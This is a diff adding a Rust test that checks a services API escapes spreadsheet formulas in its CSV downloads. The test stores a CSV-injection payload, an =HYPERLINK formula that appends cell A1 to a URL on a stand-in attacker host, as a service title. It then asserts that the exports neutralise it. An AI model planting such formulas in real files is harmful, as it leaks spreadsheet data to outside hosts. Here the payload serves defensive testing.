@@ -273,3 +273,49 @@ async fn every_answer_carries_strict_headers(app: TestApp) {
     }
 }
 both!(every_answer_carries_strict_headers);
+
+/// A title a spreadsheet would run as a formula is text in every CSV made
+/// for people to open (the explorer's and a board's, as a module's table):
+/// it starts with `'`, and no field of the download starts with `=`.
+async fn a_title_a_spreadsheet_would_run_is_text_in_every_download(app: TestApp) {
+    let app = with_demo_and_people(app).await;
+    let admin = app.admin_key().await;
+    let formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"File a tax return\")";
+    let service = app.get("/api/v1/services").await.json()["services"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|s| s["slug"] == "file-a-tax-return")
+        .cloned()
+        .unwrap();
+    let organisation = service["department"]["slug"].as_str().unwrap().to_string();
+    admin_put(
+        &app,
+        &admin,
+        "/api/v1/services/file-a-tax-return",
+        &json!({"slug": "file-a-tax-return", "title": formula,
+                "organisation": service["agency"]["slug"].as_str().unwrap_or(&organisation)}),
+    )
+    .await;
+    for uri in [
+        "/api/v1/service-kpis?format=csv".to_string(),
+        format!("/api/v1/boards/{organisation}?format=csv"),
+    ] {
+        let csv = app.get(&uri).await;
+        assert_eq!(csv.status, StatusCode::OK, "{uri}: {}", csv.text());
+        let text = csv.text();
+        assert!(
+            text.contains(
+                "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"File a tax return\"\")\""
+            ),
+            "{uri}: {text}"
+        );
+        for line in text.lines() {
+            assert!(
+                !line.starts_with('=') && !line.contains(",=") && !line.contains(",\"="),
+                "{uri}: a field a spreadsheet would run: {line}"
+            );
+        }
+    }
+}
+both!(a_title_a_spreadsheet_would_run_is_text_in_every_download);
